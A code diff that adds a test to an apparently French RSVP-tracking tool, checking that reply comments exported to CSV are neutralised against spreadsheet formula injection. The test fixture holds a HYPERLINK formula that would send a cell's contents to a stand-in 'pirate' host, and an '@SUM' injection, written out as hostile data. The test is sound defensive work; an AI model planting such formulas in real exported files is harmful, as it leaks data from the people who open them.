@@ -853,3 +853,21 @@ def test_a_password_with_accents_logs_in(territory, dovecot):
     refused = inbox(territory, box, IMAP_PASSWORD="Mauvais-été")
     assert refused.exit_code == 1 and "Identifiants refusés" in refused.output
     assert "Mauvais-été" not in refused.output and "Traceback" not in refused.output
+
+
+def test_rsvp_csv_never_hands_excel_a_formula_from_a_partner(territory, mailbox):
+    """A COMMENT is written by whoever answers: in the CSV it stays text, never a formula
+    that Excel would run on opening."""
+    formula = '=HYPERLINK("https://pirate.example.org/?d="&A1;"Cliquez")'
+    mailbox.deliver(mails.outlook(Reply(COPIL_UID, ANNE, "DECLINED", comment=formula)),
+                    mails.gmail(Reply(COPIL_UID, list(PEOPLE)[1], "ACCEPTED",
+                                      comment="@SUM(1+1)")))
+    assert inbox(territory, mailbox).exit_code == 0
+    table = cli("rsvp", "2027-03-copil", "--csv", "--root", str(territory),
+                env=env_for(mailbox))
+    assert table.exit_code == 0, table.output
+    rows = list(csv.DictReader(io.StringIO(table.output.lstrip("\ufeff")), delimiter=";"))
+    comments = {r["adresse"]: r["commentaire"] for r in rows}
+    assert comments[ANNE] == "'" + formula
+    assert comments[list(PEOPLE)[1]] == "'@SUM(1+1)"
+    assert comments[list(PEOPLE)[2]] == ""
